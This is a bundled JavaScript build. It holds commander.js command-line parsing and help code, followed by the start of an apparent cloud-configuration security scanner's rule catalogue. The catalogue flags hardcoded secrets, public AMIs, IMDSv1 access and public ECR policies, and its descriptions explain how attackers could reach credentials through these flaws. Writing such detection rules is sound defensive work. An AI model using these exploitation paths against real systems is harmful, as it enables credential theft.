        (defined) => option.conflictsWith.includes(defined.attributeName())
      );
      if (conflictingAndDefined) {
        this._conflictingOption(option, conflictingAndDefined);
      }
    });
  }
  /**
   * Display an error message if conflicting options are used together.
   * Called after checking for help flags in leaf subcommand.
   *
   * @private
   */
  _checkForConflictingOptions() {
    this._getCommandAndAncestors().forEach((cmd) => {
      cmd._checkForConflictingLocalOptions();
    });
  }
  /**
   * Parse options from `argv` removing known options,
   * and return argv split into operands and unknown arguments.
   *
   * Side effects: modifies command by storing options. Does not reset state if called again.
   *
   * Examples:
   *
   *     argv => operands, unknown
   *     --known kkk op => [op], []
   *     op --known kkk => [op], []
   *     sub --unknown uuu op => [sub], [--unknown uuu op]
   *     sub -- --unknown uuu op => [sub --unknown uuu op], []
   *
   * @param {string[]} args
   * @return {{operands: string[], unknown: string[]}}
   */
  parseOptions(args) {
    const operands = [];
    const unknown = [];
    let dest = operands;
    function maybeOption(arg) {
      return arg.length > 1 && arg[0] === "-";
    }
    const negativeNumberArg = (arg) => {
      if (!/^-(\d+|\d*\.\d+)([eE][+-]?\d+)?$/.test(arg)) return false;
      return !this._getCommandAndAncestors().some(
        (cmd) => cmd.options.map((opt) => opt.short).some((short) => /^-\d$/.test(short))
      );
    };
    let activeVariadicOption = null;
    let activeGroup = null;
    let i = 0;
    while (i < args.length || activeGroup) {
      const arg = activeGroup ?? args[i++];
      activeGroup = null;
      if (arg === "--") {
        if (dest === unknown) dest.push(arg);
        dest.push(...args.slice(i));
        break;
      }
      if (activeVariadicOption && (!maybeOption(arg) || negativeNumberArg(arg))) {
        this.emit(`option:${activeVariadicOption.name()}`, arg);
        continue;
      }
      activeVariadicOption = null;
      if (maybeOption(arg)) {
        const option = this._findOption(arg);
        if (option) {
          if (option.required) {
            const value = args[i++];
            if (value === void 0) this.optionMissingArgument(option);
            this.emit(`option:${option.name()}`, value);
          } else if (option.optional) {
            let value = null;
            if (i < args.length && (!maybeOption(args[i]) || negativeNumberArg(args[i]))) {
              value = args[i++];
            }
            this.emit(`option:${option.name()}`, value);
          } else {
            this.emit(`option:${option.name()}`);
          }
          activeVariadicOption = option.variadic ? option : null;
          continue;
        }
      }
      if (arg.length > 2 && arg[0] === "-" && arg[1] !== "-") {
        const option = this._findOption(`-${arg[1]}`);
        if (option) {
          if (option.required || option.optional && this._combineFlagAndOptionalValue) {
            this.emit(`option:${option.name()}`, arg.slice(2));
          } else {
            this.emit(`option:${option.name()}`);
            activeGroup = `-${arg.slice(2)}`;
          }
          continue;
        }
      }
      if (/^--[^=]+=/.test(arg)) {
        const index = arg.indexOf("=");
        const option = this._findOption(arg.slice(0, index));
        if (option && (option.required || option.optional)) {
          this.emit(`option:${option.name()}`, arg.slice(index + 1));
          continue;
        }
      }
      if (dest === operands && maybeOption(arg) && !(this.commands.length === 0 && negativeNumberArg(arg))) {
        dest = unknown;
      }
      if ((this._enablePositionalOptions || this._passThroughOptions) && operands.length === 0 && unknown.length === 0) {
        if (this._findCommand(arg)) {
          operands.push(arg);
          unknown.push(...args.slice(i));
          break;
        } else if (this._getHelpCommand() && arg === this._getHelpCommand().name()) {
          operands.push(arg, ...args.slice(i));
          break;
        } else if (this._defaultCommandName) {
          unknown.push(arg, ...args.slice(i));
          break;
        }
      }
      if (this._passThroughOptions) {
        dest.push(arg, ...args.slice(i));
        break;
      }
      dest.push(arg);
    }
    return { operands, unknown };
  }
  /**
   * Return an object containing local option values as key-value pairs.
   *
   * @return {object}
   */
  opts() {
    if (this._storeOptionsAsProperties) {
      const result = {};
      const len = this.options.length;
      for (let i = 0; i < len; i++) {
        const key = this.options[i].attributeName();
        result[key] = key === this._versionOptionName ? this._version : this[key];
      }
      return result;
    }
    return this._optionValues;
  }
  /**
   * Return an object containing merged local and global option values as key-value pairs.
   *
   * @return {object}
   */
  optsWithGlobals() {
    return this._getCommandAndAncestors().reduce(
      (combinedOptions, cmd) => Object.assign(combinedOptions, cmd.opts()),
      {}
    );
  }
  /**
   * Display error message and exit (or call exitOverride).
   *
   * @param {string} message
   * @param {object} [errorOptions]
   * @param {string} [errorOptions.code] - an id string representing the error
   * @param {number} [errorOptions.exitCode] - used with process.exit
   */
  error(message, errorOptions) {
    this._outputConfiguration.outputError(
      `${message}
`,
      this._outputConfiguration.writeErr
    );
    if (typeof this._showHelpAfterError === "string") {
      this._outputConfiguration.writeErr(`${this._showHelpAfterError}
`);
    } else if (this._showHelpAfterError) {
      this._outputConfiguration.writeErr("\n");
      this.outputHelp({ error: true });
    }
    const config = errorOptions || {};
    const exitCode = config.exitCode || 1;
    const code = config.code || "commander.error";
    this._exit(exitCode, code, message);
  }
  /**
   * Apply any option related environment variables, if option does
   * not have a value from cli or client code.
   *
   * @private
   */
  _parseOptionsEnv() {
    this.options.forEach((option) => {
      if (option.envVar && option.envVar in process2.env) {
        const optionKey = option.attributeName();
        if (this.getOptionValue(optionKey) === void 0 || ["default", "config", "env"].includes(
          this.getOptionValueSource(optionKey)
        )) {
          if (option.required || option.optional) {
            this.emit(`optionEnv:${option.name()}`, process2.env[option.envVar]);
          } else {
            this.emit(`optionEnv:${option.name()}`);
          }
        }
      }
    });
  }
  /**
   * Apply any implied option values, if option is undefined or default value.
   *
   * @private
   */
  _parseOptionsImplied() {
    const dualHelper = new DualOptions(this.options);
    const hasCustomOptionValue = (optionKey) => {
      return this.getOptionValue(optionKey) !== void 0 && !["default", "implied"].includes(this.getOptionValueSource(optionKey));
    };
    this.options.filter(
      (option) => option.implied !== void 0 && hasCustomOptionValue(option.attributeName()) && dualHelper.valueFromOption(
        this.getOptionValue(option.attributeName()),
        option
      )
    ).forEach((option) => {
      Object.keys(option.implied).filter((impliedKey) => !hasCustomOptionValue(impliedKey)).forEach((impliedKey) => {
        this.setOptionValueWithSource(
          impliedKey,
          option.implied[impliedKey],
          "implied"
        );
      });
    });
  }
  /**
   * Argument `name` is missing.
   *
   * @param {string} name
   * @private
   */
  missingArgument(name) {
    const message = `error: missing required argument '${name}'`;
    this.error(message, { code: "commander.missingArgument" });
  }
  /**
   * `Option` is missing an argument.
   *
   * @param {Option} option
   * @private
   */
  optionMissingArgument(option) {
    const message = `error: option '${option.flags}' argument missing`;
    this.error(message, { code: "commander.optionMissingArgument" });
  }
  /**
   * `Option` does not have a value, and is a mandatory option.
   *
   * @param {Option} option
   * @private
   */
  missingMandatoryOptionValue(option) {
    const message = `error: required option '${option.flags}' not specified`;
    this.error(message, { code: "commander.missingMandatoryOptionValue" });
  }
  /**
   * `Option` conflicts with another option.
   *
   * @param {Option} option
   * @param {Option} conflictingOption
   * @private
   */
  _conflictingOption(option, conflictingOption) {
    const findBestOptionFromValue = (option2) => {
      const optionKey = option2.attributeName();
      const optionValue = this.getOptionValue(optionKey);
      const negativeOption = this.options.find(
        (target) => target.negate && optionKey === target.attributeName()
      );
      const positiveOption = this.options.find(
        (target) => !target.negate && optionKey === target.attributeName()
      );
      if (negativeOption && (negativeOption.presetArg === void 0 && optionValue === false || negativeOption.presetArg !== void 0 && optionValue === negativeOption.presetArg)) {
        return negativeOption;
      }
      return positiveOption || option2;
    };
    const getErrorMessage = (option2) => {
      const bestOption = findBestOptionFromValue(option2);
      const optionKey = bestOption.attributeName();
      const source = this.getOptionValueSource(optionKey);
      if (source === "env") {
        return `environment variable '${bestOption.envVar}'`;
      }
      return `option '${bestOption.flags}'`;
    };
    const message = `error: ${getErrorMessage(option)} cannot be used with ${getErrorMessage(conflictingOption)}`;
    this.error(message, { code: "commander.conflictingOption" });
  }
  /**
   * Unknown option `flag`.
   *
   * @param {string} flag
   * @private
   */
  unknownOption(flag) {
    if (this._allowUnknownOption) return;
    let suggestion = "";
    if (flag.startsWith("--") && this._showSuggestionAfterError) {
      let candidateFlags = [];
      let command = this;
      do {
        const moreFlags = command.createHelp().visibleOptions(command).filter((option) => option.long).map((option) => option.long);
        candidateFlags = candidateFlags.concat(moreFlags);
        command = command.parent;
      } while (command && !command._enablePositionalOptions);
      suggestion = suggestSimilar(flag, candidateFlags);
    }
    const message = `error: unknown option '${flag}'${suggestion}`;
    this.error(message, { code: "commander.unknownOption" });
  }
  /**
   * Excess arguments, more than expected.
   *
   * @param {string[]} receivedArgs
   * @private
   */
  _excessArguments(receivedArgs) {
    if (this._allowExcessArguments) return;
    const expected = this.registeredArguments.length;
    const s = expected === 1 ? "" : "s";
    const received = receivedArgs.length;
    const forSubcommand = this.parent ? ` for '${this.name()}'` : "";
    const details = receivedArgs.join(", ");
    const message = `error: too many arguments${forSubcommand}. Expected ${expected} argument${s} but got ${received}: ${details}.`;
    this.error(message, { code: "commander.excessArguments" });
  }
  /**
   * Unknown command.
   *
   * @private
   */
  unknownCommand() {
    const unknownName = this.args[0];
    let suggestion = "";
    if (this._showSuggestionAfterError) {
      const candidateNames = [];
      this.createHelp().visibleCommands(this).forEach((command) => {
        candidateNames.push(command.name());
        if (command.alias()) candidateNames.push(command.alias());
      });
      suggestion = suggestSimilar(unknownName, candidateNames);
    }
    const message = `error: unknown command '${unknownName}'${suggestion}`;
    this.error(message, { code: "commander.unknownCommand" });
  }
  /**
   * Get or set the program version.
   *
   * This method auto-registers the "-V, --version" option which will print the version number.
   *
   * You can optionally supply the flags and description to override the defaults.
   *
   * @param {string} [str]
   * @param {string} [flags]
   * @param {string} [description]
   * @return {(this | string | undefined)} `this` command for chaining, or version string if no arguments
   */
  version(str2, flags, description) {
    if (str2 === void 0) return this._version;
    this._version = str2;
    flags = flags || "-V, --version";
    description = description || "output the version number";
    const versionOption = this.createOption(flags, description);
    this._versionOptionName = versionOption.attributeName();
    this._registerOption(versionOption);
    this.on("option:" + versionOption.name(), () => {
      this._outputConfiguration.writeOut(`${str2}
`);
      this._exit(0, "commander.version", str2);
    });
    return this;
  }
  /**
   * Set the description.
   *
   * @param {string} [str]
   * @param {object} [argsDescription]
   * @return {(string|Command)}
   */
  description(str2, argsDescription) {
    if (str2 === void 0 && argsDescription === void 0)
      return this._description;
    this._description = str2;
    if (argsDescription) {
      this._argsDescription = argsDescription;
    }
    return this;
  }
  /**
   * Set the summary. Used when listed as subcommand of parent.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */
  summary(str2) {
    if (str2 === void 0) return this._summary;
    this._summary = str2;
    return this;
  }
  /**
   * Set an alias for the command.
   *
   * You may call more than once to add multiple aliases. Only the first alias is shown in the auto-generated help.
   *
   * @param {string} [alias]
   * @return {(string|Command)}
   */
  alias(alias) {
    if (alias === void 0) return this._aliases[0];
    let command = this;
    if (this.commands.length !== 0 && this.commands[this.commands.length - 1]._executableHandler) {
      command = this.commands[this.commands.length - 1];
    }
    if (alias === command._name)
      throw new Error("Command alias can't be the same as its name");
    const matchingCommand = this.parent?._findCommand(alias);
    if (matchingCommand) {
      const existingCmd = [matchingCommand.name()].concat(matchingCommand.aliases()).join("|");
      throw new Error(
        `cannot add alias '${alias}' to command '${this.name()}' as already have command '${existingCmd}'`
      );
    }
    command._aliases.push(alias);
    return this;
  }
  /**
   * Set aliases for the command.
   *
   * Only the first alias is shown in the auto-generated help.
   *
   * @param {string[]} [aliases]
   * @return {(string[]|Command)}
   */
  aliases(aliases) {
    if (aliases === void 0) return this._aliases;
    aliases.forEach((alias) => this.alias(alias));
    return this;
  }
  /**
   * Set / get the command usage `str`.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */
  usage(str2) {
    if (str2 === void 0) {
      if (this._usage) return this._usage;
      const args = this.registeredArguments.map((arg) => {
        return humanReadableArgName(arg);
      });
      return [].concat(
        this.options.length || this._helpOption !== null ? "[options]" : [],
        this.commands.length ? "[command]" : [],
        this.registeredArguments.length ? args : []
      ).join(" ");
    }
    this._usage = str2;
    return this;
  }
  /**
   * Get or set the name of the command.
   *
   * @param {string} [str]
   * @return {(string|Command)}
   */
  name(str2) {
    if (str2 === void 0) return this._name;
    this._name = str2;
    return this;
  }
  /**
   * Set/get the help group heading for this subcommand in parent command's help.
   *
   * @param {string} [heading]
   * @return {Command | string}
   */
  helpGroup(heading) {
    if (heading === void 0) return this._helpGroupHeading ?? "";
    this._helpGroupHeading = heading;
    return this;
  }
  /**
   * Set/get the default help group heading for subcommands added to this command.
   * (This does not override a group set directly on the subcommand using .helpGroup().)
   *
   * @example
   * program.commandsGroup('Development Commands:');
   * program.command('watch')...
   * program.command('lint')...
   * ...
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  commandsGroup(heading) {
    if (heading === void 0) return this._defaultCommandGroup ?? "";
    this._defaultCommandGroup = heading;
    return this;
  }
  /**
   * Set/get the default help group heading for options added to this command.
   * (This does not override a group set directly on the option using .helpGroup().)
   *
   * @example
   * program
   *   .optionsGroup('Development Options:')
   *   .option('-d, --debug', 'output extra debugging')
   *   .option('-p, --profile', 'output profiling information')
   *
   * @param {string} [heading]
   * @returns {Command | string}
   */
  optionsGroup(heading) {
    if (heading === void 0) return this._defaultOptionGroup ?? "";
    this._defaultOptionGroup = heading;
    return this;
  }
  /**
   * @param {Option} option
   * @private
   */
  _initOptionGroup(option) {
    if (this._defaultOptionGroup && !option.helpGroupHeading)
      option.helpGroup(this._defaultOptionGroup);
  }
  /**
   * @param {Command} cmd
   * @private
   */
  _initCommandGroup(cmd) {
    if (this._defaultCommandGroup && !cmd.helpGroup())
      cmd.helpGroup(this._defaultCommandGroup);
  }
  /**
   * Set the name of the command from script filename, such as process.argv[1],
   * or import.meta.filename.
   *
   * (Used internally and public although not documented in README.)
   *
   * @example
   * program.nameFromFilename(import.meta.filename);
   *
   * @param {string} filename
   * @return {Command}
   */
  nameFromFilename(filename) {
    this._name = path.basename(filename, path.extname(filename));
    return this;
  }
  /**
   * Get or set the directory for searching for executable subcommands of this command.
   *
   * @example
   * program.executableDir(import.meta.dirname);
   * // or
   * program.executableDir('subcommands');
   *
   * @param {string} [path]
   * @return {(string|null|Command)}
   */
  executableDir(path15) {
    if (path15 === void 0) return this._executableDir;
    this._executableDir = path15;
    return this;
  }
  /**
   * Return program help documentation.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to wrap for stderr instead of stdout
   * @return {string}
   */
  helpInformation(contextOptions) {
    const helper = this.createHelp();
    const context = this._getOutputContext(contextOptions);
    helper.prepareContext({
      error: context.error,
      helpWidth: context.helpWidth,
      outputHasColors: context.hasColors
    });
    const text = helper.formatHelp(this, helper);
    if (context.hasColors) return text;
    return this._outputConfiguration.stripColor(text);
  }
  /**
   * @typedef HelpContext
   * @type {object}
   * @property {boolean} error
   * @property {number} helpWidth
   * @property {boolean} hasColors
   * @property {function} write - includes stripColor if needed
   *
   * @returns {HelpContext}
   * @private
   */
  _getOutputContext(contextOptions) {
    contextOptions = contextOptions || {};
    const error = !!contextOptions.error;
    let baseWrite;
    let hasColors;
    let helpWidth;
    if (error) {
      baseWrite = (str2) => this._outputConfiguration.writeErr(str2);
      hasColors = this._outputConfiguration.getErrHasColors();
      helpWidth = this._outputConfiguration.getErrHelpWidth();
    } else {
      baseWrite = (str2) => this._outputConfiguration.writeOut(str2);
      hasColors = this._outputConfiguration.getOutHasColors();
      helpWidth = this._outputConfiguration.getOutHelpWidth();
    }
    const write = (str2) => {
      if (!hasColors) str2 = this._outputConfiguration.stripColor(str2);
      return baseWrite(str2);
    };
    return { error, write, hasColors, helpWidth };
  }
  /**
   * Output help information for this command.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean } | Function} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */
  outputHelp(contextOptions) {
    let deprecatedCallback;
    if (typeof contextOptions === "function") {
      deprecatedCallback = contextOptions;
      contextOptions = void 0;
    }
    const outputContext = this._getOutputContext(contextOptions);
    const eventContext = {
      error: outputContext.error,
      write: outputContext.write,
      command: this
    };
    this._getCommandAndAncestors().reverse().forEach((command) => command.emit("beforeAllHelp", eventContext));
    this.emit("beforeHelp", eventContext);
    let helpInformation = this.helpInformation({ error: outputContext.error });
    if (deprecatedCallback) {
      helpInformation = deprecatedCallback(helpInformation);
      if (typeof helpInformation !== "string" && !Buffer.isBuffer(helpInformation)) {
        throw new Error("outputHelp callback must return a string or a Buffer");
      }
    }
    outputContext.write(helpInformation);
    if (this._getHelpOption()?.long) {
      this.emit(this._getHelpOption().long);
    }
    this.emit("afterHelp", eventContext);
    this._getCommandAndAncestors().forEach(
      (command) => command.emit("afterAllHelp", eventContext)
    );
  }
  /**
   * You can pass in flags and a description to customise the built-in help option.
   * Pass in false to disable the built-in help option.
   *
   * @example
   * program.helpOption('-?, --help', 'show help'); // customise
   * program.helpOption(false); // disable
   *
   * @param {(string | boolean)} flags
   * @param {string} [description]
   * @return {Command} `this` command for chaining
   */
  helpOption(flags, description) {
    if (typeof flags === "boolean") {
      if (flags) {
        if (this._helpOption === null) this._helpOption = void 0;
        if (this._defaultOptionGroup) {
          this._initOptionGroup(this._getHelpOption());
        }
      } else {
        this._helpOption = null;
      }
      return this;
    }
    this._helpOption = this.createOption(
      flags ?? "-h, --help",
      description ?? "display help for command"
    );
    if (flags || description) this._initOptionGroup(this._helpOption);
    return this;
  }
  /**
   * Lazy create help option.
   * Returns null if has been disabled with .helpOption(false).
   *
   * @returns {(Option | null)} the help option
   * @package
   */
  _getHelpOption() {
    if (this._helpOption === void 0) {
      this.helpOption(void 0, void 0);
    }
    return this._helpOption;
  }
  /**
   * Supply your own option to use for the built-in help option.
   * This is an alternative to using helpOption() to customise the flags and description etc.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addHelpOption(option) {
    this._helpOption = option;
    this._initOptionGroup(option);
    return this;
  }
  /**
   * Output help information and exit.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */
  help(contextOptions) {
    this.outputHelp(contextOptions);
    let exitCode = Number(process2.exitCode ?? 0);
    if (exitCode === 0 && contextOptions && typeof contextOptions !== "function" && contextOptions.error) {
      exitCode = 1;
    }
    this._exit(exitCode, "commander.help", "(outputHelp)");
  }
  /**
   * // Do a little typing to coordinate emit and listener for the help text events.
   * @typedef HelpTextEventContext
   * @type {object}
   * @property {boolean} error
   * @property {Command} command
   * @property {function} write
   */
  /**
   * Add additional text to be displayed with the built-in help.
   *
   * Position is 'before' or 'after' to affect just this command,
   * and 'beforeAll' or 'afterAll' to affect this command and all its subcommands.
   *
   * @param {string} position - before or after built-in help
   * @param {(string | Function)} text - string to add, or a function returning a string
   * @return {Command} `this` command for chaining
   */
  addHelpText(position, text) {
    const allowedValues = ["beforeAll", "before", "after", "afterAll"];
    if (!allowedValues.includes(position)) {
      throw new Error(`Unexpected value for position to addHelpText.
Expecting one of '${allowedValues.join("', '")}'`);
    }
    const helpEvent = `${position}Help`;
    this.on(helpEvent, (context) => {
      let helpStr;
      if (typeof text === "function") {
        helpStr = text({ error: context.error, command: context.command });
      } else {
        helpStr = text;
      }
      if (helpStr) {
        context.write(`${helpStr}
`);
      }
    });
    return this;
  }
  /**
   * Output help information if help flags specified
   *
   * @param {Array} args - array of options to search for help flags
   * @private
   */
  _outputHelpIfRequested(args) {
    const helpOption = this._getHelpOption();
    const helpRequested = helpOption && args.find((arg) => helpOption.is(arg));
    if (helpRequested) {
      this.outputHelp();
      this._exit(0, "commander.helpDisplayed", "(outputHelp)");
    }
  }
};
function incrementNodeInspectorPort(args) {
  return args.map((arg) => {
    if (!arg.startsWith("--inspect")) {
      return arg;
    }
    let debugOption;
    let debugHost = "127.0.0.1";
    let debugPort = "9229";
    let match;
    if ((match = arg.match(/^(--inspect(-brk|-wait)?)$/)) !== null) {
      debugOption = match[1];
    } else if ((match = arg.match(
      /^(--inspect(-brk|-port|-wait)?)=(\[[^\]]+\]|[^:]+)$/
    )) !== null) {
      debugOption = match[1];
      if (/^\d+$/.test(match[3])) {
        debugPort = match[3];
      } else {
        debugHost = match[3];
      }
    } else if ((match = arg.match(
      /^(--inspect(-brk|-port|-wait)?)=(\[[^\]]+\]|[^:]+):(\d+)$/
    )) !== null) {
      debugOption = match[1];
      debugHost = match[3];
      debugPort = match[4];
    }
    if (debugOption && debugPort !== "0") {
      return `${debugOption}=${debugHost}:${parseInt(debugPort) + 1}`;
    }
    return arg;
  });
}
function useColor() {
  if (process2.env.NO_COLOR || process2.env.FORCE_COLOR === "0" || process2.env.FORCE_COLOR === "false")
    return false;
  if (process2.env.FORCE_COLOR || process2.env.CLICOLOR_FORCE !== void 0)
    return true;
  return void 0;
}

// node_modules/.pnpm/commander@15.1.0/node_modules/commander/index.js
var program = new Command();

// packages/engine/src/version.ts
var TOLLGATE_VERSION = "0.1.0";
var TOLLGATE_URI = "https://github.com/tollgate-dev/tollgate";

// packages/cli/src/exit-code.ts
var ExitCode = {
  /** No finding at or above the threshold, and every input was read. */
  Clean: 0,
  /** Findings at or above `--fail-on`. */
  Findings: 1,
  /** Usage, configuration or input errors: the result is incomplete. */
  InputError: 2
};

// packages/rules/src/catalog.ts
var GROUPS = {
  "github-actions": () => import("./github-actions-5N3N2ABG.mjs"),
  "kubernetes-clusterrole": () => import("./kubernetes-clusterrole-JU6MXCB6.mjs"),
  "kubernetes-namespace": () => import("./kubernetes-namespace-LK3VPN65.mjs"),
  "kubernetes-pod": () => import("./kubernetes-pod-NUCQZLYF.mjs"),
  "kubernetes-role": () => import("./kubernetes-role-GE47IGRI.mjs"),
  "kubernetes-secret": () => import("./kubernetes-secret-ALMPFMGZ.mjs"),
  "terraform-aws-ami": () => import("./terraform-aws-ami-QAG42FLE.mjs"),
  "terraform-aws-cloudtrail": () => import("./terraform-aws-cloudtrail-ZGOA3ROT.mjs"),
  "terraform-aws-dms": () => import("./terraform-aws-dms-2Q3U53HE.mjs"),
  "terraform-aws-efs": () => import("./terraform-aws-efs-FC44XACZ.mjs"),
  "terraform-aws-iam": () => import("./terraform-aws-iam-5RRNUJIZ.mjs"),
  "terraform-aws-instance": () => import("./terraform-aws-instance-WK5RC6V4.mjs"),
  "terraform-aws-lambda": () => import("./terraform-aws-lambda-ZRTA5OYL.mjs"),
  "terraform-aws-lb": () => import("./terraform-aws-lb-QLF3Q4JZ.mjs"),
  "terraform-aws-opensearch": () => import("./terraform-aws-opensearch-ORFJW3CQ.mjs"),
  "terraform-aws-s3": () => import("./terraform-aws-s3-OM7EKNJ3.mjs"),
  "terraform-aws-security": () => import("./terraform-aws-security-JRX3TSS5.mjs"),
  "terraform-azurerm-app": () => import("./terraform-azurerm-app-WYG5DNIE.mjs"),
  "terraform-azurerm-kubernetes": () => import("./terraform-azurerm-kubernetes-IV6M6IIA.mjs"),
  "terraform-azurerm-mssql": () => import("./terraform-azurerm-mssql-4OC5WXIM.mjs"),
  "terraform-azurerm-redis": () => import("./terraform-azurerm-redis-T677KXLB.mjs"),
  "terraform-azurerm-storage": () => import("./terraform-azurerm-storage-MYZSZE3M.mjs"),
  "terraform-google-bigquery": () => import("./terraform-google-bigquery-O7JDVKFM.mjs"),
  "terraform-google-compute": () => import("./terraform-google-compute-2HSREZ5Z.mjs"),
  "terraform-google-container": () => import("./terraform-google-container-BI7RUQLY.mjs"),
  "terraform-google-kms": () => import("./terraform-google-kms-Q7Q72ZU3.mjs"),
  "terraform-provider": () => import("./terraform-provider-IDJCFKMD.mjs"),
  "terraform-variable": () => import("./terraform-variable-APJ444LW.mjs")
};
function deferred(group, meta) {
  return {
    meta,
    async load() {
      const rule = (await GROUPS[group]()).rules.find((candidate) => candidate.meta.id === meta.id);
      if (!rule) throw new Error(`rule ${meta.id} is not in group ${group}: run \`pnpm rules:registry\``);
      return rule;
    }
  };
}
var ruleCatalog = [
  deferred("terraform-aws-ami", { "id": "aws-ami-public-launch-permission", "title": "AMI shared publicly (launch permission for group all)", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_ami_launch_permission"], "description": "The launch permission makes the AMI public: every AWS account can launch it and copy its snapshots, and with them whatever was baked into the image (application code, configuration files, credentials, SSH host keys).", "remediation": 'Share the AMI with named accounts (`account_id`), an organisation (`organization_arn`) or an organisational unit instead of `group = "all"`, and turn on the account\'s block public access for AMIs.', "precision": "very-high", "cwe": ["CWE-200"], "tags": ["ec2", "ami", "public-access-policy"], "references": ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/sharingamis-intro.html"] }),
  deferred("terraform-aws-iam", { "id": "aws-certificate-private-key-hardcoded", "title": "Hardcoded TLS private key in the configuration", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_iam_server_certificate", "aws_acm_certificate"], "description": "The certificate's `private_key` is a PEM private key written out in the configuration. Anyone with read access to the repository can impersonate the sites the certificate covers or decrypt traffic recorded from them, and the key cannot be taken back out of version history.", "remediation": "Revoke and replace the certificate. Let ACM issue certificates whose keys never leave AWS, or read the key at apply time from a secret store (a sensitive variable, `aws_secretsmanager_secret_version` data source).", "precision": "very-high", "cwe": ["CWE-321", "CWE-798"], "tags": ["secrets", "hardcoded-secret", "private-key", "tls"], "references": ["https://docs.aws.amazon.com/acm/latest/userguide/import-certificate.html"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-codebuild-plaintext-secret", "title": "Hardcoded secret in a CodeBuild PLAINTEXT environment variable", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_codebuild_project"], "description": "A `PLAINTEXT` environment variable of the build project holds a literal credential (a name saying password, secret, token or key, or an access key or private key as the value). Plain-text variables are shown in the console and build logs and returned by `BatchGetProjects`; the value is also in the repository and the Terraform state.", "remediation": 'Store the value in Secrets Manager or SSM Parameter Store and use `type = "SECRETS_MANAGER"` or `"PARAMETER_STORE"` with the secret\'s name as `value`.', "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "codebuild", "ci"], "references": ["https://docs.aws.amazon.com/codebuild/latest/userguide/build-env-ref-env-vars.html"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-database-hardcoded-password", "title": "Hardcoded database master password in clear text", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_db_instance", "aws_rds_cluster", "aws_docdb_cluster", "aws_redshift_cluster", "aws_neptune_cluster", "aws_elasticache_replication_group", "aws_memorydb_user"], "description": "The database's master password (or Redis auth token) is a literal in the configuration or plan. It is readable by everyone with access to the repository or the plan file, stays in version history after it is changed, and is the same for every environment built from the code.", "remediation": "Set `manage_master_user_password = true` (RDS, Aurora, Redshift, DocumentDB) so AWS keeps the password in Secrets Manager and rotates it, or pass it from a secret store through a sensitive variable without a default.", "precision": "very-high", "cwe": ["CWE-798", "CWE-259"], "tags": ["secrets", "hardcoded-secret", "hardcoded-password", "database"], "references": ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/rds-secrets-manager.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#manage_master_user_password"] }),
  deferred("terraform-aws-instance", { "id": "aws-ec2-imdsv2-not-required", "title": "EC2 instance metadata service does not require IMDSv2 (http_tokens)", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_instance", "aws_launch_template", "aws_launch_configuration"], "description": "The instance metadata service accepts IMDSv1 requests (`metadata_options.http_tokens` is not `required`). An SSRF flaw or an open proxy in any application on the instance can then fetch the instance role's temporary credentials with a plain GET request, as in the Capital One breach.", "remediation": 'Add `metadata_options { http_tokens = "required" }` (and `http_put_response_hop_limit = 1`, or 2 for containers), or make IMDSv2 the account default with `aws_ec2_instance_metadata_defaults`.', "precision": "very-high", "cwe": ["CWE-918", "CWE-522"], "frameworks": { "CIS AWS Foundations 3.0": ["5.6"] }, "tags": ["ec2", "imds", "instance-metadata", "imdsv2"], "references": ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-IMDS-new-instances.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#metadata-options"] }),
  deferred("terraform-aws-instance", { "id": "aws-ec2-user-data-hardcoded-secret", "title": "Hardcoded secret (access key, password, private key) in EC2 user_data", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_instance", "aws_launch_configuration", "aws_launch_template"], "description": "The instance's boot script contains a credential: an AWS access key, a password assignment, a private key, or a variable whose default is a hardcoded secret. User data is readable by anyone who can describe the instance or reach its metadata service, is kept in the Terraform state and the repository, and cannot be rotated without replacing the instance.", "remediation": "Give the instance an IAM role (instance profile) instead of access keys, and fetch other secrets at boot from AWS Secrets Manager or SSM Parameter Store (SecureString) with that role.", "precision": "high", "cwe": ["CWE-798"], "tags": ["secrets", "hardcoded-secret", "ec2", "user-data"], "references": ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html", "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/iam-roles-for-amazon-ec2.html"] }),
  deferred("terraform-aws-dms", { "id": "aws-ecr-repository-policy-public", "title": "ECR repository policy allows any principal (public repository)", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["aws_ecr_repository_policy"], "description": 'The repository policy allows `Principal: "*"` with no condition naming an account or organisation. Any AWS account can pull the private images (and the code and secrets baked into them), or, when push actions are allowed, replace them with its own.', "remediation": "Name the accounts that pull or push in `Principal`, or add an `aws:PrincipalOrgID` condition. Publish images meant for the public in an ECR Public repository instead.", "precision": "high", "cwe": ["CWE-732"], "tags": ["ecr", "resource-policy", "public-access-policy"], "references": ["https://docs.aws.amazon.com/AmazonECR/latest/userguide/repository-policies.html"] }),
